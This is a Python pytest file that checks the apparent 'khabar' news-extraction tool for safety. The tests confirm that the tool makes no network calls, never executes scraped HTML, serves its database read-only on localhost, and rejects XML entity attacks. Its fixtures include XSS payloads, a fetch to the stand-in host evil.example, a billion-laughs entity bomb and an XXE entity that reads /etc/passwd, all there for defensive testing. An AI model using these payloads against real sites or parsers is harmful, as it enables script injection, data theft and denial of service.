"""Safety: the pipeline makes no network access, HTML from scraped pages is never executed and
its payloads stay inert text, and `khabar serve` is read-only and bound to 127.0.0.1 by default."""
from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

import khabar
from khabar.pipeline import Pipeline

ENGLISH = "Clashes broke out near the town on Monday, local sources said, and two fighters were killed in the fighting."
FRENCH = "Des affrontements ont éclaté lundi près de la ville, selon des sources locales ; deux combattants auraient été tués."
ARABIC = "قالت مصادر محلية إن اشتباكات عنيفة اندلعت يوم الإثنين قرب البلدة وأسفرت عن مقتل مقاتلين اثنين."
LITERAL = '<script>alert("literal")</script>'

HOSTILE_PAGE = f"""<!DOCTYPE html><html><head><title>Clashes near the town</title>
<script>document.write('PWNED-SCRIPT'); fetch('http://evil.example/steal')</script>
<script src="http://evil.example/x.js"></script><link rel="stylesheet" href="http://evil.example/s.css">
<style>body {{ background: url(http://evil.example/bg.png) }} .x:after {{ content: 'PWNED-CSS' }}</style>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
</head><body onload="alert('PWNED-ONLOAD')"><article><h1>Clashes near the town</h1>
<p>{ENGLISH}</p>
<img src="http://evil.example/x.png" onerror="alert('PWNED-ONERROR')" alt="photo">
<p>The page quoted a tag literally: {LITERAL.replace('<', '&lt;').replace('>', '&gt;')} and
<b onmouseover="alert('PWNED-HOVER')">these bold words</b> stay in a sentence long enough to keep.</p>
<svg onload="alert('PWNED-SVG')"><script>alert('PWNED-SVG-SCRIPT')</script></svg>
<iframe src="javascript:alert('PWNED-IFRAME')"></iframe><iframe srcdoc="&lt;script&gt;alert('PWNED-SRCDOC')&lt;/script&gt;"></iframe>
<a href="javascript:alert('PWNED-HREF')">read more</a>
<p>{FRENCH}</p></article>
<noscript><img src="http://evil.example/pixel.gif"></noscript></body></html>"""


class NetworkAttempt(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch):
    """Every way out of the process raises, and is recorded."""
    tried: list[str] = []

    def refuse(what):
        def f(*a, **kw):
            tried.append(f"{what}{a[1:2] if what == 'connect' else a[:1]}")
            raise NetworkAttempt(f"network access attempted: {what} {a!r}")
        return f
    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("sendto"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    return tried


def test_the_pipeline_makes_no_network_access(no_network, tmp_path):
    # a fresh pipeline, so resources load lazily inside the guarded block
    pipe = Pipeline()
    reps = [khabar.extract(HOSTILE_PAGE, pipeline=pipe),
            khabar.extract(f"{ENGLISH}\nhttps://evil.example/a?b=1 www.example.org\n{ARABIC}", pipeline=pipe),
            khabar.extract(FRENCH, published="2021-04-13", url="https://evil.example/article", pipeline=pipe)]
    (tmp_path / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (tmp_path / "a.txt").write_text(ARABIC, encoding="utf-8")
    (tmp_path / "r.jsonl").write_text(json.dumps({"url": "http://evil.example/1", "html": HOSTILE_PAGE}) + "\n",
                                      encoding="utf-8")
    items = list(pipe.run([tmp_path]))
    pipe.events([i for i in items if isinstance(i, khabar.Report)] + reps)
    assert no_network == [], f"the pipeline tried the network: {no_network}"
    assert all(isinstance(i, khabar.Report) for i in items), [getattr(i, "reason", "") for i in items]


def test_the_guard_itself_catches_a_connection(no_network):
    with pytest.raises(NetworkAttempt):
        urllib.request.urlopen("http://127.0.0.1:9/", timeout=1)
    assert no_network


GUARD = ("import socket\n"
         "def refuse(*a, **k):\n"
         "    raise SystemExit('NETWORK ACCESS ATTEMPTED %r' % (a,))\n"
         "for n in ('connect', 'connect_ex', 'sendto'): setattr(socket.socket, n, refuse)\n"
         "socket.create_connection = socket.getaddrinfo = socket.gethostbyname = refuse\n"
         "from khabar.cli import run; run()\n")


def test_the_cli_makes_no_network_access(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (tmp_path / "in" / "b.txt").write_text(FRENCH + "\n\n" + ARABIC, encoding="utf-8")
    for args in (["extract", str(tmp_path / "in"), "-o", str(tmp_path / "out")],
                 ["ingest", str(tmp_path / "in"), "--db", str(tmp_path / "k.sqlite")]):
        proc = subprocess.run([sys.executable, "-c", GUARD, *args], capture_output=True, text=True, timeout=180)
        assert "NETWORK ACCESS ATTEMPTED" not in proc.stderr + proc.stdout
        assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr


def test_scraped_html_is_never_executed_and_its_payloads_stay_text(tmp_path, monkeypatch, no_network):
    spawned: list = []
    monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: spawned.append(a) or (_ for _ in ()).throw(
        AssertionError("a process was spawned")))
    monkeypatch.setattr(os, "system", lambda *a: spawned.append(a) or 1)
    rep = khabar.extract(HOSTILE_PAGE)
    assert not spawned and not no_network
    # nothing a script, handler or stylesheet would have produced reaches the text
    assert "PWNED" not in rep.text and "PWNED" not in (rep.title or "")
    assert "evil.example" not in rep.text and "alert(" not in rep.text.replace(LITERAL, "")
    assert ENGLISH in rep.text and "these bold words" in rep.text
    # a tag the article quotes as text stays text, character for character
    assert LITERAL in rep.text
    for m in rep.mentions:
        assert "<" not in m.text or m.text in rep.text


def test_payloads_stay_inert_text_in_reports_jsonl_and_the_store(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    text_payload = f"{ENGLISH}\n\nA reader comment said {LITERAL} and <img src=x onerror=alert(1)> in plain text."
    (tmp_path / "in" / "plain.txt").write_text(text_payload, encoding="utf-8")
    (tmp_path / "in" / "rec.jsonl").write_text(json.dumps({"title": "<script>alert('t')</script>",
                                                           "text": FRENCH + " " + LITERAL}) + "\n", encoding="utf-8")
    cmd = [sys.executable, "-c", "from khabar.cli import run; run()"]
    proc = subprocess.run([*cmd, "extract", str(tmp_path / "in"), "-o", str(tmp_path / "out")], capture_output=True,
                          text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    lines = (tmp_path / "out" / "reports.jsonl").read_text(encoding="utf-8").splitlines()
    recs = {Path(json.loads(x)["path"]).name.split("#")[0]: json.loads(x) for x in lines}
    assert set(recs) == {"page.html", "plain.txt", "rec.jsonl"}
    assert "PWNED" not in json.dumps(recs, ensure_ascii=False)
    assert LITERAL in recs["page.html"]["text"]
    assert recs["plain.txt"]["text"] == text_payload          # text input is data: kept verbatim
    assert recs["rec.jsonl"]["title"] == "<script>alert('t')</script>" and LITERAL in recs["rec.jsonl"]["text"]
    proc = subprocess.run([*cmd, "ingest", str(tmp_path / "in"), "--db", str(tmp_path / "k.sqlite")],
                          capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    con = sqlite3.connect(tmp_path / "k.sqlite")
    stored = dict(con.execute("SELECT path, text FROM reports"))
    assert stored[str(tmp_path / "in" / "plain.txt")] == text_payload


# --- serve -------------------------------------------------------------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _get(url: str, data: bytes | None = None, method: str | None = None) -> tuple[int, str]:
    req = urllib.request.Request(url, data=data, method=method,
                                 headers={"Content-Type": "application/json"} if data else {})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")


def _digest(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def store_db(tmp_path_factory):
    root = tmp_path_factory.mktemp("serve")
    (root / "in").mkdir()
    (root / "in" / "a.txt").write_text(ENGLISH + "\n\n" + FRENCH, encoding="utf-8")
    (root / "in" / "b.txt").write_text(ARABIC, encoding="utf-8")
    db = root / "k.sqlite"
    proc = subprocess.run([sys.executable, "-c", "from khabar.cli import run; run()", "ingest", str(root / "in"),
                           "--db", str(db)], capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    return db


def _listening(pid: int) -> list[str]:
    import psutil
    addrs = []
    for proc in [psutil.Process(pid), *psutil.Process(pid).children(recursive=True)]:
        try:
            conns = proc.net_connections(kind="inet") if hasattr(proc, "net_connections") else proc.connections("inet")
        except psutil.Error:
            continue
        addrs += [c.laddr.ip for c in conns if c.status == psutil.CONN_LISTEN]
    return addrs


@pytest.mark.parametrize("live", [False, True], ids=["immutable", "live"])
def test_serve_is_read_only_and_bound_to_localhost_by_default(store_db, live):
    pytest.importorskip("datasette")
    port = _free_port()
    before = _digest(store_db)
    n_before = sqlite3.connect(store_db).execute("SELECT count(*) FROM reports").fetchone()[0]
    cmd = [sys.executable, "-c", "from khabar.cli import run; run()", "serve", str(store_db), "--port", str(port)]
    proc = subprocess.Popen(cmd + (["--live"] if live else []), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, proc.stderr.read()
            try:
                if _get(base + "/-/versions.json")[0] == 200:
                    break
            except (urllib.error.URLError, ConnectionError, OSError):
                pass
            assert time.monotonic() < deadline, "serve did not start"
            time.sleep(0.3)
        addrs = _listening(proc.pid)
        assert addrs and set(addrs) == {"127.0.0.1"}, f"serve listens on {addrs}"
        name = store_db.stem
        status, body = _get(f"{base}/{name}.json?sql=" + urllib.parse.quote("DELETE FROM reports"))
        assert status >= 400 or '"ok": false' in body.replace('"ok":false', '"ok": false')
        status, body = _get(f"{base}/{name}.json?sql=" + urllib.parse.quote(
            "SELECT count(*) AS n FROM reports"))
        assert status == 200 and json.loads(body)["rows"][0][0] == n_before
        for path in (f"/{name}/reports/-/insert", f"/{name}/-/create", f"/{name}/reports/-/drop",
                     f"/{name}/-/query"):
            status, _ = _get(base + path, data=json.dumps({"row": {"id": "x", "text": "y"}}).encode(),
                             method="POST")
            assert status >= 400, f"POST {path} answered {status}"
        assert sqlite3.connect(store_db).execute("SELECT count(*) FROM reports").fetchone()[0] == n_before
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)
        proc.stdout.close()
        proc.stderr.close()
    assert _digest(store_db) == before, "serving changed the database file"


ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 2 else "") + ";") * 10}">'
                         for i in range(2, 10))
               + f"]><html><body><p>&lol9;</p><p>{ENGLISH}</p></body></html>")
XXE = ('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
       '<!ENTITY net SYSTEM "http://evil.example/x">]>'
       f"<html><body><p>&xxe;&net;</p><p>{ENGLISH}</p></body></html>")


@pytest.mark.parametrize("page", [ENTITY_BOMB, XXE], ids=["entity-expansion", "external-entity"])
def test_xml_entities_in_scraped_pages_are_not_expanded_or_fetched(page, no_network):
    t0 = time.monotonic()
    rep = khabar.extract(page)
    assert time.monotonic() - t0 < 30
    assert ENGLISH in rep.text
    assert "lollol" not in rep.text and len(rep.text) < 2 * len(ENGLISH)
    assert "root:" not in rep.text and not no_network


@pytest.mark.parametrize("page", [
    "<html><body>" + "<div>" * 20000 + f"<p>{ENGLISH}</p>" + "</div>" * 20000 + "</body></html>",
    f"<html><body><article><p>{ENGLISH}\x00 more\x01 text</p></article></body></html>",
    f"<html><body><p>{ENGLISH}<p><b><i><table><tr><td>{FRENCH}",
    "<html><body><p>" + "&#0;&#xD800;&#1114112;&bogus; " * 50 + ENGLISH + "</p></body></html>",
    "<html>", "<body></body>",
], ids=["deeply-nested", "nul-bytes", "unclosed", "bad-entities", "html-only", "empty-body"])
def test_malformed_html_gives_a_report_or_a_rejection(pipeline, page):
    rep = pipeline.safe_process(khabar.Report(raw=page, path="page.html", _html=page))
    assert isinstance(rep, (khabar.Report, khabar.model.Rejected))
    if isinstance(rep, khabar.model.Rejected):
        assert rep.code == "E_EMPTY", rep.reason
    else:
        assert "<p>" not in rep.text and "<div>" not in rep.text
